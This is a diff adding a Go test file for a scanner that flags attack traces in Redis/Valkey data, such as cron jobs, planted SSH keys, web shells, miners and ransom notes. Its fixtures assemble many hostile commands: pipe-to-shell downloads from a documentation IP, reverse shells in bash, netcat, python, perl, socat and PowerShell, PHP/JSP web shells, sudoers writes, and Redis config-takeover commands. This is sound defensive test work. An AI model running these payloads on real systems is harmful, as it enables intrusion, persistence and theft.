@@ -1,0 +1,372 @@
+package scan
+
+import (
+	"bytes"
+	"encoding/base64"
+	"encoding/binary"
+	"fmt"
+	"math/rand/v2"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/valkeyfs/valkeyfs/keyspace"
+)
+
+// The texts are put together from parts, so that nothing that reads source
+// files takes this one for what it describes.
+const (
+	curl    = "cu" + "rl"
+	wget    = "wg" + "et"
+	sh      = "s" + "h"
+	pipe    = "| " + sh
+	php     = "<" + "?php "
+	jsp     = "<" + "%"
+	address = "198.51.100.34"
+)
+
+// artefactCase is a text, the rule that finds it, and the technique that it is
+// a trace of; without a rule nothing is to be found.
+type artefactCase struct{ name, value, rule, technique string }
+
+// testArtefacts runs cases as the value of a string and inside JSON.
+func testArtefacts(t *testing.T, cases []artefactCase) {
+	t.Helper()
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			var got []*Finding
+			for _, f := range findingsIn(t, "x", c.value) {
+				if f.Category == Artefact {
+					got = append(got, f)
+				}
+			}
+			if c.rule == "" {
+				if len(got) > 0 {
+					t.Fatalf("found %s, want nothing", brief(got))
+				}
+				return
+			}
+			if !slices.ContainsFunc(got, func(f *Finding) bool { return f.Rule == c.rule && f.Technique == c.technique }) {
+				t.Fatalf("found %s, want %s", brief(got), c.rule)
+			}
+		})
+	}
+}
+
+func TestCronFamily(t *testing.T) {
+	fetch := curl + " -fsSL http://" + address + "/init.sh " + pipe
+	testArtefacts(t, []artefactCase{
+		{"padded", "\n\n\n*/2 * * * * " + fetch + "\n\n", "cron-job", "T1053.003"},
+		{"of a user", "\n*/2 * * * * root cd1 -fsSL http://" + address + "/b2f628/init.sh|" + sh + "\n", "cron-job", "T1053.003"},
+		{"lynx", "\n\n\n* * * * * lynx -source transfer.sh/abc/x.cmd " + pipe + "\n\n", "cron-job", "T1053.003"},
+		{"in a hash of settings", "0 3 * * * " + wget + " -qO- http://" + address + "/a|" + sh, "cron-job", "T1053.003"},
+		{"at boot", "\n@reboot /dev/shm/.x/run >/dev/null 2>&1\n", "cron-job", "T1053.003"},
+		{"a path between breaks", "\n\n* * * * * root /usr/local/bin/pnscan\n\n", "cron-job", "T1053.003"},
+		{"encoded", "\n*/5 * * * * root echo " + base64.StdEncoding.EncodeToString([]byte(fetch)) + "|base" + "64 -d|ba" + sh + "\n", "cron-job", "T1053.003"},
+
+		{"schedule in prose", "run */5 * * * * in the docs sandbox", "", ""},
+		{"schedule alone", "*/5 * * * *", "", ""},
+		{"schedule in JSON", `{"cron": "*/5 * * * *", "task": "report"}`, "", ""},
+		{"manual", "see man 5 crontab for the five time fields", "", ""},
+		{"an application's own", "*/10 * * * * /usr/bin/php /srv/app/artisan schedule:run", "", ""},
+		{"with a health check", "0 3 * * * " + curl + " -fsS -m 10 --retry 5 https://hc.synthetic.test/ping/7f3c >/dev/null", "", ""},
+		{"markdown", "* * * a list * * * of stars\n* * * * * that is no table", "", ""},
+	})
+}
+
+func TestSSHKeyFamily(t *testing.T) {
+	rsa := "ssh-" + "rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQ" + random("rsa", 180, alnumAlphabet) + " root@kali"
+	ed := "ssh-" + "ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + random("e", 43, alnumAlphabet) + " x"
+	testArtefacts(t, []artefactCase{
+		{"padded", "\n\n\n\n" + rsa + "\n\n\n\n", "authorized-keys", "T1098.004"},
+		{"another kind", "\r\n\r\n" + ed + "\r\n", "authorized-keys", "T1098.004"},
+		{"with options", "\n\n\nno-pty,command=\"/bin/x\" " + rsa + "\n\n", "authorized-keys", "T1098.004"},
+		{"kept by an application", rsa, "", ""},
+		{"with a line break behind it", ed + "\n", "", ""},
+		{"in JSON", `{"ssh_key": "` + ed + `"}`, "", ""},
+		{"in a text", "\n\nAdd this key:\n" + rsa + "\n", "", ""},
+		{"no key", "\n\nssh-" + "rsa AAAAsomething\n\n", "", ""},
+	})
+}
+
+func TestShellFamilies(t *testing.T) {
+	payload := "import socket,os;s=socket.socket();s.connect(('" + address + "',4444));[os." + "dup2(s.fileno(),i) for i in (0,1,2)]"
+	encoded := base64.StdEncoding.EncodeToString([]byte(payload))
+	testArtefacts(t, []artefactCase{
+		{"pipe", curl + " -fsSL http://" + address + "/i.sh " + pipe, "pipe-to-shell", "T1059.004"},
+		{"pipe to a path", wget + " -q -O - http://" + address + "/i.sh|/bin/ba" + sh, "pipe-to-shell", "T1059.004"},
+		{"pipe to python", "cd /tmp; " + curl + " http://" + address + "/x.py | python3 -", "pipe-to-shell", "T1059.004"},
+		{"pipe by a renamed program", "\ncdz -k https://a.synthetic.test/x.sh|ba" + sh + "\n", "pipe-to-shell", "T1059.004"},
+		{"pipe that hides", "nohup " + curl + " -s https://a.synthetic.test/x.sh | ba" + sh + " >/dev/null 2>&1 &", "pipe-to-shell", "T1059.004"},
+		{"substitution", "ba" + sh + " <(" + curl + " -s http://" + address + "/x.sh)", "pipe-to-shell", "T1059.004"},
+		{"command string", sh + " -c \"$(" + wget + " -qO- http://" + address + "/x.sh)\"", "pipe-to-shell", "T1059.004"},
+		{"in JSON", `{"cmd": "` + curl + ` http://` + address + `/x ` + pipe + `"}`, "pipe-to-shell", "T1059.004"},
+		{"download", wget + " http://" + address + "/x -O /tmp/x; chm" + "od +x /tmp/x; /tmp/x", "download-and-run", "T1105"},
+		{"encoded", "echo " + encoded + "|base" + "64 -d|python3", "encoded-command", "T1027.010"},
+		{"what it encodes", "echo " + encoded + "|base" + "64 -d|python3", "reverse-shell", "T1059.004"},
+		{"encoded in python", "python -c \"exec(__import__('base64').b64" + "decode('" + encoded + "'))\"", "encoded-command", "T1027.010"},
+
+		{"dev tcp", "ba" + sh + " -i >& /dev" + "/tcp/" + address + "/4444 0>&1", "reverse-shell", "T1059.004"},
+		{"exec", "exec 5<>/dev" + "/tcp/evil.synthetic.test/443;cat <&5", "reverse-shell", "T1059.004"},
+		{"netcat", "nc" + " -e /bin/" + sh + " " + address + " 9001", "reverse-shell", "T1059.004"},
+		{"netcat, the other way round", "nc" + " " + address + " 9001 -e /bin/ba" + sh, "reverse-shell", "T1059.004"},
+		{"fifo", "rm /tmp/f;mk" + "fifo /tmp/f;cat /tmp/f|/bin/" + sh + " -i 2>&1|nc " + address + " 9001 >/tmp/f", "reverse-shell", "T1059.004"},
+		{"python", payload, "reverse-shell", "T1059.004"},
+		{"pty", "python3 -c 'import socket,pty;s=socket.socket();s.connect((\"" + address + "\",1));pty." + "spawn(\"" + sh + "\")'", "reverse-shell", "T1059.004"},
+		{"perl", "perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(9001,inet_aton(\"x\")));open(STD" + "IN,\">&S\");exec(\"/bin/" + sh + " -i\")'", "reverse-shell", "T1059.004"},
+		{"socat", "so" + "cat TCP:" + address + ":9001 EXEC:/bin/ba" + sh, "reverse-shell", "T1059.004"},
+		{"powershell", "$c = New-Object System.Net.Sock" + "ets.TCPClient('" + address + "',4242);$s = $c.GetStream()", "reverse-shell", "T1059.004"},
+		{"awk", "awk 'BEGIN{s=\"/inet" + "/tcp/0/" + address + "/9001\";while(s|&getline c)print c}'", "reverse-shell", "T1059.004"},
+
+		{"installation guide", "use " + curl + " -fsSL https://get.synthetic.test/install.sh to install", "", ""},
+		{"installation guide with a pipe", "To install, run " + curl + " -fsSL https://get.synthetic.test/install.sh " + pipe + " and follow the steps", "", ""},
+		{"installation command in JSON", `{"install": "` + curl + ` -fsSL https://get.synthetic.test/install.sh ` + pipe + `"}`, "", ""},
+		{"address in a sentence with a pipe", "Please fetch http://" + address + "/x and then | sh it is", "", ""},
+		{"a shell in a sentence", "pipe the output to | shuf or | basho", "", ""},
+		{"table", "| sh | bash | zsh |\n|----|------|-----|", "", ""},
+		{"about dev tcp", "The path /dev" + "/tcp/host/port is a feature of bash", "", ""},
+		{"decode a file", "base" + "64 -d cert.b64 > cert.der", "", ""},
+		{"build", "RUN " + curl + " -Lo /usr/local/bin/kind https://kind.synthetic.test/kind && chm" + "od +x /usr/local/bin/kind", "", ""},
+		{"netcat in prose", "use nc to test ports, the -e option is gone", "", ""},
+	})
+}
+
+func TestHostFamily(t *testing.T) {
+	testArtefacts(t, []artefactCase{
+		{"account", "\n* * * * * root user" + "add -o -u 0 -g 0 -M -d /root -s /bin/bash h\n", "cron-job", "T1053.003"},
+		{"account alone", "user" + "add -o -u 0 svc; echo svc:Passw0rd | chpass" + "wd", "account-creation", "T1136.001"},
+		{"password", "echo 'root:abc123' | chpass" + "wd", "account-creation", "T1136.001"},
+		{"key", "mkdir -p ~/.ssh; echo ssh-rsa AAAA >> ~/.ssh/author" + "ized_keys", "privileged-file-write", "T1098.004"},
+		{"rights", "echo 'www ALL=(ALL) NOPASS" + "WD:ALL' >> /etc/sudo" + "ers", "privileged-file-write", "T1548.003"},
+		{"preload", "echo /usr/lib/libx.so > /etc/ld.so" + ".preload", "privileged-file-write", "T1574.006"},
+		{"table", "echo '* * * * * root /opt/x' >> /etc/cron" + ".d/x", "privileged-file-write", "T1053.003"},
+		{"immutable", "chat" + "tr +i /root/.ssh/authorized_keys", "defence-evasion", "T1222.002"},
+		{"off", wget + " http://" + address + "/a -O /var/tmp/a; chmod 777 /var/tmp/a\nseten" + "force 0\niptables -F", "defence-evasion", "T1562.001"},
+
+		{"how to add a user", "use useradd -m to create users", "", ""},
+		{"adduser in a Dockerfile", "RUN adduser --disabled-login app", "", ""},
+		{"a file's name", "keys are read from ~/.ssh/authorized_keys", "", ""},
+		{"backup of a file", "the script copies /etc/passwd to the archive", "", ""},
+		{"how to switch off", "run setenforce 0 to make it permissive", "", ""},
+		{"about chattr", "chattr +i makes a file immutable", "", ""},
+	})
+}
+
+func TestWebShellFamily(t *testing.T) {
+	testArtefacts(t, []artefactCase{
+		{"eval", "\n\n" + php + "@ev" + "al($_POST['c']);?" + ">\n\n", "web-shell", "T1505.003"},
+		{"short tag", "<" + "?=sys" + "tem($_GET[0])?" + ">", "web-shell", "T1505.003"},
+		{"in steps", php + "ass" + "ert(base64_decode($_REQUEST[\"x\"])); ?" + ">", "web-shell", "T1505.003"},
+		{"function by name", php + "$_G" + "ET['f']($_POST['a']);", "web-shell", "T1505.003"},
+		{"packed", php + "ev" + "al(gzin" + "flate(base64_decode('7b0HYBx'))); ?" + ">", "web-shell", "T1505.003"},
+		{"writes", php + "file_put" + "_contents($_GET['n'], $_POST['d']);", "web-shell", "T1505.003"},
+		{"backticks", php + "echo `$_G" + "ET[c]`; ?" + ">", "web-shell", "T1505.003"},
+		{"jsp", jsp + "@page import=\"java.util.*\"%" + ">" + jsp + "Runtime.getRun" + "time().exec(request.getParameter(\"i\"));%" + ">", "web-shell", "T1505.003"},
+		{"asp", jsp + "ev" + "al request(\"x\")%" + ">", "web-shell", "T1505.003"},
+		{"aspx", jsp + "@ Page Language=\"Jscript\"%" + ">" + jsp + "ev" + "al(Request.Item[\"z\"],\"unsafe\");%" + ">", "web-shell", "T1505.003"},
+
+		{"page", php + "echo \"hello\"; ?" + ">", "", ""},
+		{"form", php + "echo htmlspecialchars($_POST['name']); ?" + ">", "", ""},
+		{"query", php + "$db->exec('x'); $n = $_GET['n']; ?" + ">", "", ""},
+		{"prepared", php + "$stmt->execute([$_POST['a']]); ?" + ">", "", ""},
+		{"about it", "never pass $_GET[x] to eval()", "", ""},
+		{"java source", "Runtime.getRun" + "time().exec(\"ls\");", "", ""},
+	})
+}
+
+func TestMinerFamily(t *testing.T) {
+	testArtefacts(t, []artefactCase{
+		{"pool", "-o strat" + "um+tcp://pool.synthetic.test:3333 -u 4A", "mining-pool", "T1496.001"},
+		{"command", "/tmp/.x/xm" + "rig -o 198.51.100.7:443 -u wallet -p x -k", "miner", "T1496.001"},
+		{"configuration", `{"donate-` + `level": 1, "pools": [{"url": "198.51.100.7:80", "user": "4A"}]}`, "miner", "T1496.001"},
+		{"about it", "xmrig is a miner of Monero", "", ""},
+		{"article", "Sites were found to run xmrig -o in browsers, say researchers", "", ""},
+		{"settings", `{"donate-level": 3, "name": "charity"}`, "", ""},
+	})
+}
+
+func TestRansomFamily(t *testing.T) {
+	// The addresses are those of BIP 173 and of the first block.
+	bech := "bc1" + "qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"
+	base := "1A1zP1eP5QGefi2D" + "MPTfTL5SLmv7DivfNa"
+	testArtefacts(t, []artefactCase{
+		{"sum", "Your data is backed up. Send 0.05 BTC to the address below and write to restore@onion.example", "ransom-note", "T1485"},
+		{"bech32", "All your databases were dumped. To recover them pay bitcoin to " + bech, "ransom-note", "T1485"},
+		{"base58", "your DB was deleted, pay in bitcoin to " + base + " to restore it", "ransom-note", "T1485"},
+		{"in JSON", `{"note":"Your files are encrypted. You must pay 300 USDT. Contact us at x.onion or lose all your data"}`, "ransom-note", "T1485"},
+		{"price", "Pay 0.05 BTC for your order and send the receipt", "", ""},
+		{"news", "A ransom of bitcoin was asked of the hospital", "", ""},
+		{"policy", "Your data is encrypted and backed up. Contact us by e-mail.", "", ""},
+	})
+	bad := []byte(bech)
+	bad[20] ^= 1
+	if !isBech32([]byte(bech)) || isBech32(bad) || !isBase58Check([]byte(base)) || isBase58Check([]byte(base[:20]+"1"+base[21:])) {
+		t.Error("checksums of addresses are not checked")
+	}
+}
+
+func TestLuaFamily(t *testing.T) {
+	load := "local io_l = package.load" + "lib(\"/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\", \"luaopen_io\"); local io = io_l(); return io.po" + "pen(\"id\"):read(\"*a\")"
+	testArtefacts(t, []artefactCase{
+		{"loadlib", load, "lua-sandbox-escape", "T1059.011"},
+		{"popen in a script", "local f = io.po" + "pen('id'); redis.call('set', KEYS[1], f:read())", "lua-sandbox-escape", "T1059.011"},
+		{"shared metatable", "getmeta" + "table(\"\").__index = function(_, key) redis.call('acl') end", "lua-sandbox-escape", "T1059.011"},
+		{"bytecode", "loadstring('\x1bL" + "ua\x51\x00\x01\x04')()", "lua-sandbox-escape", "T1059.011"},
+		{"script", "return redis.call('GET', KEYS[1])", "", ""},
+		{"other programs' Lua", "local f = io.popen('ls')", "", ""},
+		{"about it", "package.loadlib was removed from the sandbox", "", ""},
+	})
+	code := "#!lua name=lib\nredis.register_function('x', function() return os.exec" + "ute('id') end)"
+	found, _ := scanAll(t, newTestScanner(t), []keyspace.Event{{Kind: keyspace.Function, DB: -1, Key: []byte("lib"), Value: []byte(code), Pos: keyspace.Pos{Inner: -1}}})
+	if len(found) != 1 || found[0].Rule != "lua-sandbox-escape" || found[0].Where != WhereFunction || found[0].Key != "lib" {
+		t.Errorf("function: found %s", brief(found))
+	}
+}
+
+// elf makes the head of an ELF file of a type, and a body.
+func elf(kind uint16, body string) string {
+	h := append([]byte("\x7f"+"ELF\x02\x01\x01"), make([]byte, 9)...)
+	h = binary.LittleEndian.AppendUint16(h, kind)
+	h = binary.LittleEndian.AppendUint16(h, 62)
+	return string(h) + strings.Repeat("\x00\x11\x80\xfe", 30) + body
+}
+
+func TestExecutableFamily(t *testing.T) {
+	testArtefacts(t, []artefactCase{
+		{"module", elf(3, "\x00Redis"+"Module_OnLoad\x00system.exec\x00"), "module-payload", "T1129"},
+		{"module of Valkey", elf(3, "\x00Valkey"+"Module_OnLoad\x00"), "module-payload", "T1129"},
+		{"program", elf(2, "x"), "executable-payload", "T1105"},
+		{"base64", base64.StdEncoding.EncodeToString([]byte(elf(2, "x"))), "executable-payload", "T1105"},
+		{"windows", "MZ\x90\x00" + strings.Repeat("\x00", 74) + "This program can" + "not be run in DOS mode.\r\r\n$", "executable-payload", "T1105"},
+		{"symbol in a source", "int Redis" + "Module_OnLoad(RedisModuleCtx *ctx)", "", ""},
+		{"magic alone", "\x7f" + "ELF", "", ""},
+		{"wrong type", elf(9, ""), "", ""},
+	})
+}
+
+func TestTakeoverFamily(t *testing.T) {
+	testArtefacts(t, []artefactCase{
+		{"cron", "config set dir /etc/cron.d", "config-takeover", "T1053.003"},
+		{"ssh", "port 6379\ndir /root/.ssh\ndbfilename authorized_keys", "config-takeover", "T1098.004"},
+		{"web", "CONFIG SET dbfilename \"x.php\"", "config-takeover", "T1505.003"},
+		{"module", "12:M 10 Oct 2025 10:00:00.000 * Module 'system' loaded from /tmp/exp.so", "module-load", "T1129"},
+		{"directive", "loadmodule /dev/shm/red2.so", "module-load", "T1129"},
+		{"history", "127.0.0.1:6379> MODULE LOAD /tmp/exp.so", "module-load", "T1129"},
+		{"replication id", "+FULLRESYNC " + strings.Repeat("Z", 40) + " 1", "rogue-replication", "T1129"},
+		{"backdoor", "system.exec \"id\"", "rogue-replication", "T1129"},
+
+		{"ordinary settings", "dir /var/lib/valkey\ndbfilename dump.rdb\nloadmodule /usr/lib/redis/modules/redisbloom.so", "", ""},
+		{"a sentence", "dir /etc/cron.d is where jobs are", "", ""},
+		{"code", "System.exec(\"ls\"); shell.exec('ls')", "", ""},
+		{"a long word", strings.Repeat("Z", 41), "", ""},
+	})
+}
+
+// TestUnloggedCommands: commands in a log that no server writes.
+func TestUnloggedCommands(t *testing.T) {
+	command := func(op keyspace.Op, args ...string) keyspace.Event {
+		e := keyspace.Event{Kind: keyspace.Command, Op: op, Index: int64(len(args)), Pos: keyspace.Pos{Source: "a.aof.1.incr.aof", Inner: -1}, Record: 31, Expire: keyspace.NoExpire}
+		for _, a := range args {
+			e.Args = append(e.Args, []byte(a))
+		}
+		return e
+	}
+	never := keyspace.OpNeverLogged
+	events := []keyspace.Event{
+		command(keyspace.OpNone, "SET", "k", "v"),
+		command(never, "config", "SET", "dir", "/etc/cron.d"),
+		command(never, "MODULE", "LOAD", "/tmp/exp.so"),
+		command(never, "REPLICAOF", address, "6379"),
+		command(never, "EVAL", "return 1", "0"),
+		command(never, "GET", "k"),
+		command(keyspace.OpNone, "system.exec", "id"),
+	}
+	found, _ := scanAll(t, newTestScanner(t), events)
+	var got []string
+	for _, f := range found {
+		if f.Rule == unloggedCommand {
+			if f.Where != WhereArgument || f.KeyType != "command" || f.DB != -1 || f.RecordOffset != 31 {
+				t.Errorf("%s stands at %s of %s in database %d", f.Key, f.Where, f.KeyType, f.DB)
+			}
+			got = append(got, f.Key+" "+f.Severity.String()+" "+f.Technique)
+		}
+	}
+	want := []string{"CONFIG critical T1562.001", "MODULE critical T1129", "REPLICAOF critical T1129", "EVAL critical T1059.011", "GET medium T1565.001", "SYSTEM.EXEC critical T1059.004"}
+	if !slices.Equal(got, want) {
+		t.Errorf("got  %q\nwant %q", got, want)
+	}
+	old := command(never, "EVAL", "return 1", "0")
+	old.Pos.Source = "appendonly.aof"
+	if found, _ := scanAll(t, newTestScanner(t), []keyspace.Event{old}); len(found) > 0 {
+		t.Errorf("a script in the log of a server that may be old: found %s", brief(found))
+	}
+}
+
+// TestMisplacedSnapshot: where a snapshot lies can be the trace.
+func TestMisplacedSnapshot(t *testing.T) {
+	for path, technique := range map[string]string{
+		"/var/spool/cron/root": "T1053.003", "img/etc/cron.d/ntp": "T1053.003", "/root/.ssh/authorized_keys": "T1098.004", "/var/www/html/x.php": "T1505.003", "/tmp/exp.so": "T1129",
+		"/var/lib/redis/dump.rdb": "", "/srv/www/data/dump.rdb": "", "/var/lib/valkey/temp-12.rdb": "",
+	} {
+		events := []keyspace.Event{{Kind: keyspace.Header, Value: []byte("REDIS"), Pos: keyspace.Pos{Source: path, Inner: -1}, Expire: keyspace.NoExpire}}
+		found, _ := scanAll(t, newTestScanner(t), events)
+		if technique == "" && len(found) > 0 || technique != "" && (len(found) != 1 || found[0].Rule != misplacedSnapshot || found[0].Technique != technique) {
+			t.Errorf("%s: found %s, want a trace of %q", path, brief(found), technique)
+		}
+	}
+}
+
+// TestArtefactsAreMasked: what a command holds is not shown.
+func TestArtefactsAreMasked(t *testing.T) {
+	s, err := New(Config{Workers: 1, IDKey: []byte("test")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	value := "\n\n*/2 * * * * " + curl + " -fsSL http://" + address + "/init.sh " + pipe + "\n\n"
+	found, _ := scanAll(t, s, stringKey("x", value))
+	if len(found) != 1 || strings.Contains(found[0].Secret, address) || strings.HasSuffix(found[0].Secret, sh) {
+		t.Errorf("found %s, shown or not at all", brief(found))
+	}
+}
+
+// TestSecretsInArtefacts: a password in a hostile command is found beside it.
+func TestSecretsInArtefacts(t *testing.T) {
+	url := "postgres://svc_app:" + random("pw", 16, alnumAlphabet) + "@db1.internal:5432/app"
+	found := findingsIn(t, "x", "\n* * * * * echo "+url+" | base"+"64 -d | "+sh+"\n")
+	if !slices.ContainsFunc(found, func(f *Finding) bool { return f.Secret == url }) || !slices.ContainsFunc(found, func(f *Finding) bool { return f.Category == Artefact }) {
+		t.Errorf("found %s, want a connection string and an artefact", brief(found))
+	}
+}
+
+// TestBenignValues: a hundred thousand values of what applications keep hold no
+// trace of an attack. Their words are those that the rules look at.
+func TestBenignValues(t *testing.T) {
+	words := strings.Fields(`run the curl wget bash shell script cron crontab schedule job every day root user useradd password install update server redis valkey config set dir dump module load
+		database backup restore data encrypted bitcoin wallet send pay ransom miner pool eval exec system socket connect python perl php lua function return http https example test
+		* */5 0 1 | && ; -c -i -e /tmp /etc/cron.d /var/log authorized_keys ssh-rsa .ssh echo base64 -d chmod +x`)
+	rnd := rand.New(rand.NewPCG(7, 11))
+	var events []keyspace.Event
+	var text bytes.Buffer
+	for i := range 100_000 {
+		text.Reset()
+		for n := 3 + rnd.IntN(14); n > 0; n-- {
+			text.WriteString(words[rnd.IntN(len(words))])
+			text.WriteByte(' ')
+		}
+		value := text.String()
+		switch i % 5 {
+		case 1:
+			value = fmt.Sprintf(`{"cron":"*/%d * * * *","name":%q}`, 1+rnd.IntN(59), value)
+		case 2:
+			value = "See https://docs.synthetic.test/" + value + "| less"
+		case 3:
+			value = fmt.Sprintf("%d %d * * * /usr/bin/job --n %d # %s", rnd.IntN(60), rnd.IntN(24), i, "nightly")
+		}
+		events = append(events, stringKey(fmt.Sprint("doc:", i), value)...)
+	}
+	found, _ := scanAll(t, newTestScanner(t), events)
+	found = slices.DeleteFunc(found, func(f *Finding) bool { return f.Category != Artefact })
+	if len(found) > 0 {
+		t.Errorf("%d traces of attacks, the first: %s in %q", len(found), found[0].Rule, found[0].Secret)
+	}
+}
